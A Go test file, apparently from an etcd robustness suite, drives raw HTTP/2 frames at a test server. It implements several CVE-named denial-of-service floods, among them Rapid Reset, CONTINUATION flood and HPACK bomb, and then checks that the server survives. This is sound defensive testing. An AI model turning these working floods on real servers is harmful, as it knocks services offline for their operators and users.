package abuse

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker speaks HTTP/2 frame by frame.
type attacker struct {
	conn  net.Conn
	fr    *http2.Framer
	ended atomic.Bool // the server has closed the connection
	enc   *hpack.Encoder
	buf   bytes.Buffer
	next  uint32 // stream
}

// attack opens a connection and says hello. What the server sends is read and thrown away, unless deaf.
func (v *victim) attack(deaf bool) *attacker {
	v.Helper()
	a := &attacker{conn: v.dial(), next: 1}
	a.fr = http2.NewFramer(a.conn, a.conn)
	a.enc = hpack.NewEncoder(&a.buf)
	_, _ = io.WriteString(a.conn, http2.ClientPreface)
	_ = a.fr.WriteSettings()
	if !deaf {
		go func() {
			_, _ = io.Copy(io.Discard, a.conn)
			a.ended.Store(true)
		}()
	}
	return a
}

// header is the encoded header of a call.
func (a *attacker) header(more ...hpack.HeaderField) []byte {
	a.buf.Reset()
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: "/etcdserverpb.KV/Range"},
		{Name: ":authority", Value: "x"}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	}, more...) {
		_ = a.enc.WriteField(f)
	}
	return bytes.Clone(a.buf.Bytes())
}

func (a *attacker) stream() uint32 {
	id := a.next
	a.next += 2
	return id
}

// floods are what is done on a connection again and again; false: the connection is gone.
var floods = map[string]func(a *attacker) error{
	// CVE-2023-44487: requests that are taken back at once.
	"rapid reset": func(a *attacker) error {
		id := a.stream()
		return errors.Join(
			a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.header(), EndHeaders: true}),
			a.fr.WriteRSTStream(id, http2.ErrCodeCancel))
	},
	// CVE-2019-9515
	"settings": func(a *attacker) error {
		return a.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	},
	// CVE-2019-9512
	"pings": func(a *attacker) error { return a.fr.WritePing(false, [8]byte{1}) },
	// CVE-2024-27316: a header without end.
	"continuation": func(a *attacker) error {
		id := a.stream()
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.header()}); err != nil {
			return err
		}
		for range 200 {
			if err := a.fr.WriteContinuation(id, false, bytes.Repeat([]byte{0x00, 0x01, 'a', 0x01, 'b'}, 2000)); err != nil {
				return err
			}
		}
		return nil
	},
	// CVE-2016-6581: a large value in the table, named again and again by one byte each.
	"hpack bomb": func(a *attacker) error {
		id := a.stream()
		block := a.header(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)})
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 12_000)...) // 62: the newest entry of the dynamic table
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return nil
	},
	// CVE-2019-9518: data frames without data.
	"empty data": func(a *attacker) error {
		id := a.stream()
		if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.header(), EndHeaders: true}); err != nil {
			return err
		}
		for range 500 {
			if err := a.fr.WriteData(id, false, nil); err != nil {
				return err
			}
		}
		return nil
	},
	// CVE-2019-9513
	"priorities": func(a *attacker) error {
		id := a.stream()
		return a.fr.WritePriority(id, http2.PriorityParam{StreamDep: 0, Weight: byte(id)})
	},
	"window updates": func(a *attacker) error { return a.fr.WriteWindowUpdate(0, 1) },
	"unknown frames": func(a *attacker) error { return a.fr.WriteRawFrame(0xfa, 0xff, a.stream(), make([]byte, 1000)) },
	"open streams": func(a *attacker) error {
		return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream(), BlockFragment: a.header(), EndHeaders: true})
	},
}

// floodFlags bound the streams of a connection, which etcd by default does not: each that is open costs some kilobytes.
var floodFlags = []string{"--max-concurrent-streams", "1000"}

// floodTime is how long each flood lasts if the server bears it.
const floodTime = 2 * time.Second

// TestFloods: each kind from a few connections at once. A connection that the server has closed is opened again.
func TestFloods(t *testing.T) {
	for name, flood := range floods {
		t.Run(name, func(t *testing.T) {
			v := newVictim(t, floodFlags...)
			end := time.Now().Add(floodTime)
			var wg sync.WaitGroup
			var frames, opened atomic.Int64
			for range 4 {
				wg.Go(func() {
					for time.Now().Before(end) {
						a := v.attack(false)
						opened.Add(1)
						for time.Now().Before(end) && !a.ended.Load() {
							_ = a.conn.SetWriteDeadline(time.Now().Add(aliveLimit))
							if flood(a) != nil {
								break
							}
							frames.Add(1)
						}
						a.conn.Close()
					}
				})
			}
			v.alive()
			wg.Wait()
			t.Logf("%d times on %d connections", frames.Load(), opened.Load())
			v.alive()
			v.within(generous)
			v.nothingLeft()
		})
	}
}

// TestFloodsOfTheDeaf: the same from clients that do not read what the server answers, so that its answers have to wait
// somewhere: it closes the connection, stops reading, or drops them.
func TestFloodsOfTheDeaf(t *testing.T) {
	for _, name := range []string{"settings", "pings", "rapid reset", "open streams"} {
		t.Run(name, func(t *testing.T) {
			v := newVictim(t, floodFlags...)
			var wg sync.WaitGroup
			for range 4 {
				wg.Go(func() {
					a := v.attack(true)
					_ = a.conn.SetWriteDeadline(time.Now().Add(floodTime))
					for floods[name](a) == nil {
						if a.next > 1<<24 {
							break
						}
					}
					v.alive()
					a.conn.Close()
				})
			}
			wg.Wait()
			v.alive()
			v.within(generous)
			v.nothingLeft()
		})
	}
}
